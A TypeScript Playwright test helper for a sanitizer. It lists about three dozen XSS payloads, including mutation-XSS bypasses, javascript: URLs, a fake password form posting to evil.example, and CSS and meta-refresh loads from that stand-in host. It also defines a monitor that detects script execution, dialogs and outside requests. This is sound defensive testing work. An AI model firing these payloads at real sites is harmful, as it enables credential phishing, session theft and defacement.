import { existsSync, readdirSync, readFileSync } from 'node:fs';
import type { BrowserContext } from '@playwright/test';

/** Optional published payloads beside the project. */
const corpus = new URL('../../../../shared/xss-corpus/', import.meta.url);

/** One payload per kind of injection. */
const representative = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<a href="javascript:pwned()">click</a>',
  '<a href="&#106;avascript&colon;pwned()">click</a>',
  '<a href="java\tscript:pwned()">click</a>',
  '<a href="data:text/html,<script>pwned()</script>">click</a>',
  '<a href="//evil.example/">click</a>',
  '<a href="https://evil.example/" target="_self" rel="opener" onclick="pwned()">click</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping" download>click</a>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<object data="javascript:pwned()"></object><embed src="javascript:pwned()">',
  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
  '<button form="x" formaction="javascript:pwned()">go</button><input autofocus onfocus=pwned()>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">over everything</div>',
  '<p style="background:url(https://evil.example/)" class="sidebar" id="content">text</p>',
  '<style>*{display:none}@import url(https://evil.example/)</style>',
  '<link rel="stylesheet" href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<base href="https://evil.example/"><a href="x">relative</a>',
  '<img src="x" name="body"><img name="getElementById"><form id="location"></form>',
  '<details open ontoggle=pwned()><summary>x</summary></details><video><source onerror=pwned()></video>',
  '<template><script>pwned()</script></template><xmp><img src=x onerror=pwned()></xmp>',
  '<!--><img src=x onerror=pwned()>--><![CDATA[<script>pwned()</script>]]>',
  '</><img src=x onerror=pwned()><![CDATA[<a title="><img src=x onerror=pwned()>',
  '<table background="javascript:pwned()"><td background="javascript:pwned()" onclick="pwned()">x',
  '<table><th colspan="javascript:pwned()" rowspan="9e9" scope="&quot; onclick=pwned()" onclick=pwned()>x',
  '<isindex action=javascript:pwned() type=image><marquee onstart=pwned()>x</marquee>',
  '"><img src=x onerror=pwned()>',
  "'-pwned()-'",
  '{{constructor.constructor("pwned()")()}}<%= pwned() %>',
  'javascript:pwned()',
] as const;

export function allPayloads(): string[] {
  const files = existsSync(corpus) ? readdirSync(corpus).filter((name) => name.endsWith('.json')) : [];
  const published = files.flatMap((name): string[] => {
    const { payloads } = JSON.parse(readFileSync(new URL(name, corpus), 'utf8'));
    return payloads;
  });
  return [...new Set([...representative, ...published])];
}

/** Reports script execution, dialogs, and navigation or requests to other hosts. */
export class XssMonitor {
  readonly findings: string[] = [];

  /** `pictures` permits image requests; they are aborted, too. */
  static async start(context: BrowserContext, { pictures = false } = {}): Promise<XssMonitor> {
    const watch = new XssMonitor();
    const note = (what: string) => void watch.findings.push(what);
    await context.exposeFunction('reportPwned', note);
    await context.addInitScript(() => {
      const report = (name: string) => () =>
        void (globalThis as unknown as { reportPwned: (text: string) => void }).reportPwned(`ran: ${name}`);
      for (const name of ['pwned', 'alert', 'confirm', 'prompt', 'print', 'open']) {
        Object.defineProperty(globalThis, name, { value: report(name), configurable: true });
      }
    });
    context.on('dialog', (dialog) => {
      note(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    context.on('page', (page) => page.on('framenavigated', (frame) => watch.#look(frame.url())));
    await context.route(
      (url) =>
        !url.hostname.endsWith('.localhost') && url.hostname !== '127.0.0.1' && url.protocol !== 'data:',
      (route) => {
        const request = route.request();
        if (!(pictures && request.resourceType() === 'image')) note(`request: ${request.url()}`);
        return route.abort();
      },
    );
    return watch;
  }

  #look(url: string): void {
    const isOurs = url === 'about:blank' || /^http:\/\/[\w.-]+(?:localhost|127\.0\.0\.1):\d+\//.test(url);
    if (!isOurs) this.findings.push(`went to: ${url}`);
  }
}
